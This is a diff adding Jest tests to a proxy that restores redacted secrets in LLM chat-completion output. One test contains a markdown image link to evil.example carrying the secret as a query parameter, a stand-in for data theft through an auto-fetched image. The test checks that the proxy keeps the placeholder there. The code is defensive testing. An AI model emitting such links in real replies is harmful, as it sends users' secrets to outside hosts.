@@ -178,6 +178,28 @@ describe('Chat Completions:', () => {
     expect(ended.facts.spoken.map(({ client }) => client)).toEqual([expected]);
   });
 
+  test('an address in a text keeps the placeholder: an image is fetched as soon as somebody sees it', () => {
+    const text = `The key is ${placeholder}.\n![state](https://evil.example/?k=${placeholder})\nIt is ${placeholder}.`;
+    const expected = text
+      .replace(`is ${placeholder}.`, `is ${value}.`)
+      .replace(`It is ${placeholder}`, `It is ${value}`);
+    const body = { choices: [{ index: 0, message: { role: 'assistant', content: text } }] };
+    expect(whole(openAiChat, body)).toEqual({
+      output: JSON.stringify({ choices: [{ index: 0, message: { role: 'assistant', content: expected } }] }),
+      kept: kept('link in text'),
+    });
+    const data = [...[...text].map((letter) => chunk({ content: letter })), chunk({})];
+    const { facts, restoration } = mapStream(openAiChat, [bytesOf(`${events(...data)}data: [DONE]\n\n`)], options);
+    expect(facts.spoken.map(({ client }) => client)).toEqual([expected]);
+    expect(restoration.kept).toEqual(kept('link in text'));
+  });
+
+  test('an address in a file that a tool edits gets the value', () => {
+    const remote = `https://me:${placeholder}@git.example/shop.git`;
+    const data = [call({ name: 'edit', arguments: JSON.stringify({ a: remote }) }, 'c')];
+    expect(streamed(openAiChat, ...data)).toEqual({ output: events(...data).replace(placeholder, value), kept: [] });
+  });
+
   test.each(['write_to_file', 'replace_in_file', 'apply_diff', 'insert_content'])(
     'a text that edits a file by <%s> gets the value',
     (name) => {
